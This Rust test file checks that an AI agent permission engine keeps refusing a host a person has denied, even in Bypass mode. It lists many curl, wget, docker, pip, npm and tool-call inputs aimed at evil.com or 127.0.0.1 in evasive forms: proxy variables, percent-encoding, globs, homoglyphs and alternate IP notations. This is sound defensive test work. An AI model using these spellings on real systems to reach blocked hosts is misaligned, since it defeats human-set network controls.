//! Tests that a denied host is denied in every spelling of its name, and for every program.

use bestow::{Action, Effect, action::Operation, agent::Mode, grant::Scope};
use serde_json::json;

use super::{all_allowed, all_denied};
use crate::{
    findings::{
        decision::{all_are, call, says_no},
        uses::bound,
    },
    support::World,
};

const HELD: [&str; 3] = ["@write:/ws", "@network", "@read:/"];

/// Creates an agent to which a person has denied `host`.
async fn refused(world: &World, host: &str) -> bestow::Agent {
    let agent = bound(world, Mode::Default, &HELD, &[super::asks(Operation::Network)]).await;
    let _there = world.you().attend().unwrap();
    says_no(world, &agent, Action::network(host), Scope::Session).await;
    world.engine.set_mode(agent.id(), Mode::Bypass).await.unwrap();
    agent
}

#[tokio::test]
async fn a_host_is_refused_in_the_environment_of_a_program_that_reaches_the_network() {
    let world = World::new();
    let agent = refused(&world, "evil.com").await;
    let names =
        ["https_proxy", "http_proxy", "HTTPS_PROXY", "ALL_PROXY", "all_proxy", "ftp_proxy", "GIT_PROXY_COMMAND"];
    let lines: Vec<String> = names
        .iter()
        .flat_map(|name| {
            [
                format!("{name}=http://evil.com:3128 curl https://ok.com"),
                format!("{name}=evil.com:3128 curl https://ok.com"),
                format!("export {name}=evil.com; curl https://ok.com"),
                format!("env {name}=http://evil.com curl https://ok.com"),
                format!("{name}=socks5h://u:p@evil.com:1 git fetch"),
            ]
        })
        .collect();
    all_denied(&agent, &lines.iter().map(String::as_str).collect::<Vec<_>>());
    all_denied(
        &agent,
        &[
            "DOCKER_HOST=tcp://evil.com:2375 docker ps",
            "DOCKER_HOST=ssh://u@evil.com docker run x",
            "docker -H tcp://evil.com:2375 ps",
            "docker -H evil.com ps",
            "docker --host=tcp://evil.com ps",
            "PGHOST=evil.com psql -c 'select 1'",
            "KUBECONFIG=/dev/null kubectl -s https://evil.com get pods",
            "npm_config_registry=https://evil.com npm install x",
            "PIP_INDEX_URL=https://evil.com/simple pip install x",
            "GOPROXY=https://evil.com go get x",
            "REDISCLI_AUTH=x redis-cli -h evil.com",
        ],
    );
    all_allowed(
        &agent,
        &[
            "https_proxy=http://proxy.ok.com curl https://ok.com",
            "X=evil.com true",
            "echo evil.com",
            "DOCKER_HOST=tcp://ok.com docker ps",
            "curl https://ok.com",
        ],
    );
}

#[tokio::test]
async fn a_host_is_refused_in_every_spelling() {
    let world = World::new();
    let agent = refused(&world, "evil.com").await;
    all_denied(
        &agent,
        &[
            "curl https://%65vil.com",
            "curl %65vil.com",
            "curl https://evil%2ecom/x",
            "curl 'https://{a,evil}.com'",
            "curl 'https://[d-f]vil.com'",
            "curl 'http://ev[i-i]l.com/'",
            "curl 'https://x.{a,evil.com}'",
            "curl https://EVIL.COM",
            "curl 'https://evil\u{3002}com'",
            "curl 'https://ｅvil.com'",
            "curl -x evil.com https://ok.com",
            "curl --connect-to ::evil.com: https://ok.com",
            "curl --url 'https://{evil,x}.com'",
            "wget https://%65vil.com",
            "curl https://ok.com -xevil.com",
            "curl --prox evil.com https://ok.com",
            "curl 'https://[1-5000].ok.com'",
        ],
    );
    all_allowed(
        &agent,
        &[
            "curl 'https://{a,b}.com'",
            "curl 'https://ok.com/[1-3].png'",
            "curl https://ok.com/%65vil.com",
            "curl 'https://ok.com/{a,evil}.com'",
        ],
    );
}

#[tokio::test]
async fn an_address_is_refused_in_every_form() {
    let world = World::new();
    let agent = refused(&world, "127.0.0.1").await;
    let forms = [
        "127.0.0.1",
        "0x7f.1",
        "2130706433",
        "127.1",
        "0177.0.0.1",
        "0x7f000001",
        "127.0.1",
        "017700000001",
        "127.000.000.001",
        "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]",
    ];
    let lines: Vec<String> =
        forms.iter().flat_map(|form| [format!("curl http://{form}/x"), format!("wget {form}:80")]).collect();
    all_denied(&agent, &lines.iter().map(String::as_str).collect::<Vec<_>>());
    all_are(&agent, Effect::Deny, forms.map(|form| Action::network(form.trim_matches(['[', ']']))));
    all_are(
        &agent,
        Effect::Deny,
        forms.map(|form| call("WebFetch", json!({"url": format!("http://{form}/x"), "prompt": "x"}))),
    );
    all_allowed(&agent, &["curl http://127.0.0.2", "curl 0x7f.2", "ping 10.1"]);
    let other = World::new();
    let agent = refused(&other, "0x7f.1").await;
    all_denied(&agent, &["curl http://127.0.0.1/"]);
}

#[tokio::test]
async fn a_host_is_refused_in_whatever_a_tool_is_told() {
    let world = World::new();
    let agent = refused(&world, "evil.com").await;
    let denied = [
        call("web_fetch", json!({"prompt": "summarize https://evil.com/x please"})),
        call("web_fetch", json!({"prompt": "see evil.com/x"})),
        call("web_fetch", json!({"prompt": "https://ok.com and https://evil.com"})),
        call("WebFetch", json!({"url": "https://ok.com", "prompt": "then fetch https://evil.com/x"})),
        call("WebFetch", json!({"url": "https://%65vil.com", "prompt": "x"})),
        call("foo", json!({"u": "x https://evil.com"})),
        call("foo", json!({"u": "x https://evil.com/"})),
        call("foo", json!({"u": "(https://evil.com)"})),
        call("foo", json!({"u": "https://%65vil.com"})),
        call("foo", json!({"u": ["a", {"b": "get <https://u@evil.com:1/x>"}]})),
        call("foo", json!({"host": "evil.com"})),
        call("foo", json!({"host": "evil.com:80"})),
        call("foo", json!({"u": "//evil.com/x"})),
    ];
    all_are(&agent, Effect::Deny, denied);
    let others = [
        call("foo", json!({"u": "x https://ok.com"})),
        call("WebFetch", json!({"url": "https://ok.com", "prompt": "what is said"})),
    ];
    all_are(&agent, Effect::Allow, others);
}
